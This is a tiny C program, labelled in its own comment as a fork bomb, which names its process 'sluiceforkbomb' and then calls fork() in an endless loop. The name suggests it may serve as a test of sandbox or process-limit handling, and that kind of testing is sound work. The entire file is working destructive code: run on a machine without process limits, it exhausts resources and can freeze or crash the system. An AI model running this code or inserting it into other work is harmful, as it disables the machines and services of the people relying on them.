/* A fork bomb: every process forks forever. */
#include <sys/prctl.h>
#include <unistd.h>
int main(void) {
  prctl(PR_SET_NAME, "sluiceforkbomb");
  for (;;) fork();
}
